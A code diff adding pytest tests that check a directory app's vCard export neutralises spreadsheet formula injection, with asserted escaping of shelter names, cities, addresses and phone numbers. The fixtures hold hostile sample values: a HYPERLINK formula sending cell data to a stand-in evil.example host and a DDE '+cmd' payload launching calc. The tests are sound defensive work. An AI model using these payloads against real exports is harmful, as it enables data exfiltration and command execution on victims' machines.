@@ -2,7 +2,7 @@
 
 import pytest
 
-from directory.vcard import escape, fold, organisation_vcard
+from directory.vcard import escape, escape_phone, fold, organisation_vcard
 from tests.directory.conftest import make_organisation
 
 pytestmark = pytest.mark.django_db
@@ -118,3 +118,26 @@ def test_untranslated_description_is_marked_as_english_under_another_language(cl
 
     english = client.get(directory_page.url + "org/gent-shelter/").content.decode()
     assert 'class="untranslated-note"' not in english
+
+
+def test_vcard_makes_formulas_text_and_keeps_rfc_escaping(client, shelter):
+    shelter.name = '=HYPERLINK("http://evil.example/?d=",A1);x,y'
+    shelter.city = "@SUM(1+1)"
+    shelter.address = "-2+3\nSample Street"
+    shelter.email = ""
+    shelter.save_revision().publish()
+
+    card = client.get("/en/directory/org/antwerp-shelter/vcard/").content.decode().replace("\r\n ", "")
+
+    assert 'FN:\'=HYPERLINK("http://evil.example/?d="\\,A1)\\;x\\,y\r\n' in card
+    assert "ADR;TYPE=work:;;'-2+3 Sample Street;'@SUM(1+1);;;Belgium\r\n" in card
+    # An international number stays dialable.
+    assert "TEL;TYPE=work,voice;VALUE=text:+32 2 000 01 00\r\n" in card
+
+
+def test_vcard_phone_that_is_not_a_number_is_text():
+    assert escape("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
+    assert escape_phone("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
+    assert escape_phone("=1+1") == "'=1+1"
+    assert escape_phone("+36 1 234 5678") == "+36 1 234 5678"
+    assert escape("\t=1;2") == "'\t=1\\;2"
